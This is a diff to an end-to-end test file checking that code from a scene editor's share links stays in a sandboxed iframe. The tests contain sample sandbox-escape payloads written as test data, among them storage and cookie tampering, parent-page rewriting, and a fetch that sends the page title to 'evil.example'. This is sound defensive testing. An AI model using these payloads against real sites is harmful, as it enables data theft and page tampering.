@@ -9,15 +9,22 @@ import {E2E_ORIGIN} from './support/server';
 
 /** A mark in the site's storage that shared code must not be able to read or change. */
 const CANARY = {key: 'share-canary', value: 'untouched'};
+/** What hostile code writes; built from two halves in the code, so the editor never shows it whole. */
+const OWNED = 'owned-by-scene';
+const OWNED_IN_CODE = `'owned-' + 'by-scene'`;
 
 function preview(page: Page): Locator {
   return page.locator('[data-live-preview]').first();
 }
 
-async function ready(page: Page, target: Locator): Promise<void> {
+/** Waits until the preview has run its code: `ready`, or `error` when `failing` (the code threw at once). */
+async function ready(page: Page, target: Locator, failing = false): Promise<void> {
   await expect(page.locator('html')).toHaveAttribute('data-has-hydrated', 'true', {timeout: 30_000});
   await target.scrollIntoViewIfNeeded();
-  await expect(target).toHaveAttribute('data-status', 'ready', {timeout: 30_000});
+  await expect(target).toHaveAttribute('data-status', /^(ready|error)$/, {timeout: 30_000});
+  if (!failing && (await target.getAttribute('data-status')) === 'error') {
+    throw new Error(`The preview failed: ${await target.getByRole('alert').innerText()}`);
+  }
 }
 
 /** Pauses the preview and moves it to `frame`; waits until the player reports that frame. */
@@ -26,8 +33,12 @@ async function showFrame(target: Locator, frame: number): Promise<void> {
     await target.getByRole('button', {name: 'Pause'}).click();
   }
   await expect(target).toHaveAttribute('data-paused', 'true');
-  await target.getByRole('slider', {name: 'Time'}).fill(String(frame));
-  await expect(target).toHaveAttribute('data-frame', String(frame));
+  // A recompile that lands meanwhile may move the frame: seek again until it stays.
+  await expect(async () => {
+    await target.getByRole('slider', {name: 'Time'}).fill(String(frame));
+    await expect(target).toHaveAttribute('data-frame', String(frame), {timeout: 2_000});
+    await expect(target).toHaveAttribute('data-paused', 'true', {timeout: 500});
+  }).toPass({timeout: 15_000});
 }
 
 /**
@@ -110,16 +121,19 @@ test.describe('share links', () => {
     expect(original).toContain("fill={'#3f82d6'}");
     const edited = original.replace("fill={'#3f82d6'}", "fill={'#e13238'}");
     await replaceCode(page, target, edited);
-    await showFrame(target, 20);
-    const share = target.getByRole('button', {name: 'Share'});
-    await share.click();
+    // The edit recompiles after a pause in typing; then hold the frame it shows.
+    await page.waitForTimeout(PREVIEW.editDebounceMs + 1_000);
+    if ((await target.getAttribute('data-paused')) === 'false') {
+      await target.getByRole('button', {name: 'Pause'}).click();
+    }
+    await expect(target).toHaveAttribute('data-paused', 'true');
+    await page.waitForTimeout(500);
+    const frame = Number(await target.getAttribute('data-frame'));
+    const sent = await signature(target.locator('canvas'));
+    await target.getByRole('button', {name: 'Share'}).click();
     await expect(target.getByRole('button', {name: 'Link copied'})).toBeVisible();
     const link = await page.evaluate(() => navigator.clipboard.readText());
     expect(link).toMatch(new RegExp(`^${E2E_ORIGIN}/editor/#v1\\.[A-Za-z0-9_-]+$`));
-    // The sharer's frame, once the edit has been drawn.
-    await expect.poll(async () => (await signature(target.locator('canvas')))[0] !== undefined).toBe(true);
-    await page.waitForTimeout(500);
-    const sent = await signature(target.locator('canvas'));
 
     const {context: fresh, external} = await freshContext(browser);
     const receiver = await fresh.newPage();
@@ -132,7 +146,7 @@ test.describe('share links', () => {
     // The scene's canvas is in the sandboxed frame, not in the page.
     await expect(shared.locator('canvas')).toHaveCount(0);
     await expect(receiver.locator('iframe[data-sandbox]')).toHaveAttribute('sandbox', 'allow-scripts');
-    await showFrame(shared, 20);
+    await showFrame(shared, frame);
     await expect
       .poll(async () => largestDifference(await signature(sandboxCanvas(receiver)), sent), {timeout: 10_000})
       .toBeLessThanOrEqual(2);
@@ -184,10 +198,14 @@ test.describe('share links', () => {
   });
 });
 
+/** Logged after the attempt: when it shows, the attempt ran (in the sandbox) without throwing. */
+const FINISHED = 'attempt finished';
 const scene = (body: string) => `import {makeScene2D} from '@canvas-commons/2d';
+import {useLogger} from '@canvas-commons/core';
 
 export default makeScene2D(function* (view) {
   ${body}
+  useLogger().info('${FINISHED}');
   yield;
 });
 `;
@@ -205,22 +223,24 @@ async function openHostile(page: Page, context: BrowserContext, fragment: string
   });
   await page.goto('/');
   await page.evaluate(({key, value}) => localStorage.setItem(key, value), CANARY);
-  const storageBefore = await page.evaluate(() => JSON.stringify({...localStorage}));
   const url = `${E2E_ORIGIN}/editor/#${fragment}`;
   await page.goto(url);
   const target = preview(page);
-  await ready(page, target);
+  await ready(page, target, true);
   return {
     target,
     async expectUntouched() {
       // Give late attempts (timers, promises) a moment.
       await page.waitForTimeout(1_500);
       expect(page.url(), 'top page URL').toBe(url);
-      expect(await page.evaluate(() => JSON.stringify({...localStorage})), 'site storage').toBe(storageBefore);
+      // The site writes its own keys (badges, announcement); the mark must be as it was, and nothing says pwned.
+      const storage = await page.evaluate(() => ({...localStorage}));
+      expect(storage[CANARY.key], 'site storage').toBe(CANARY.value);
+      expect(JSON.stringify(storage), 'site storage').not.toContain(OWNED);
       expect(await page.evaluate(() => document.cookie), 'site cookies').toBe('');
       expect(await context.cookies(), 'cookies').toEqual([]);
       await expect(page.getByRole('heading', {level: 1})).toHaveText('Shared scene');
-      await expect(page.locator('body')).not.toContainText('pwned');
+      await expect(page.locator('body')).not.toContainText(OWNED);
       expect(popups, 'pop-ups').toEqual([]);
       expect(dialogs, 'dialogs').toEqual([]);
     },
@@ -248,17 +268,20 @@ test.describe('hostile links fail safe', () => {
       const code = await target.locator('[data-live-editor] .cm-content').innerText();
       await replaceCode(page, target, code.replace('// Add nodes to the view here.', 'view.fill("#20c020");'));
       await expect
-        .poll(async () => (await signature(sandboxCanvas(page))).slice(0, 3), {timeout: 10_000})
-        .toEqual([32, 192, 32]);
+        .poll(async () => largestDifference((await signature(sandboxCanvas(page))).slice(0, 3), [32, 192, 32]), {
+          timeout: 10_000,
+        })
+        .toBeLessThanOrEqual(2);
       await expectUntouched();
     });
   }
 
+  // Each attempt either throws (the message names the reason) or does nothing and the scene goes on.
   const attacks: Array<[string, string, RegExp | null]> = [
-    ['top.location', `top.location.href = '${E2E_ORIGIN}/docs/?pwned';`, /navigat|permission|Security/i],
-    ['parent.document', `parent.document.body.textContent = 'pwned';`, /cross-origin|Security|Blocked/i],
-    ['localStorage', `localStorage.setItem('${CANARY.key}', 'pwned');`, /sandbox|Security|denied/i],
-    ['document.cookie', `document.cookie = 'pwned=1; path=/';`, /sandbox|Security|cookie/i],
+    ['top.location', `top.location.href = '${E2E_ORIGIN}/docs/?pwned';`, null],
+    ['parent.document', `parent.document.body.textContent = ${OWNED_IN_CODE};`, /cross-origin|Security|Blocked/i],
+    ['localStorage', `localStorage.setItem('${CANARY.key}', ${OWNED_IN_CODE});`, /sandbox|Security|denied/i],
+    ['document.cookie', `document.cookie = ${OWNED_IN_CODE} + '=1; path=/';`, /sandbox|Security|cookie/i],
     ['window.open', `if (window.open('${E2E_ORIGIN}/docs/?pwned')) throw new Error('opened');`, null],
     ['fetch to another host', `fetch('http://evil.example/steal?' + document.title).catch(() => undefined);`, null],
     ['an endless loop', `while (true) {}`, /loop/i],
@@ -266,13 +289,10 @@ test.describe('hostile links fail safe', () => {
   for (const [name, body, error] of attacks) {
     test(`code that tries ${name} runs only in the sandbox`, async ({page, context, externalRequests}) => {
       const {target, expectUntouched} = await openHostile(page, context, await encodeScene({code: scene(body)}));
-      if (error) {
-        await expect(target.getByRole('alert')).toContainText(error, {timeout: 15_000});
-      } else {
-        // No error to show: the scene ran to its end quietly.
-        await page.waitForTimeout(1_000);
-        await expect(target.getByRole('alert')).toHaveCount(0);
-      }
+      const outcome = target.getByRole('alert').or(target.locator('li', {hasText: FINISHED}));
+      await expect(outcome.first()).toBeVisible({timeout: 15_000});
+      if (error) await expect(target.getByRole('alert')).toContainText(error);
+      console.log(`${name}: ${(await outcome.first().innerText()).replace(/\s+/g, ' ').slice(0, 160)}`);
       await expectUntouched();
       expect(externalRequests, 'requests that left 127.0.0.1').toEqual([]);
       // The page's own canvas stayed out of reach: every frame of it is in the sandbox.
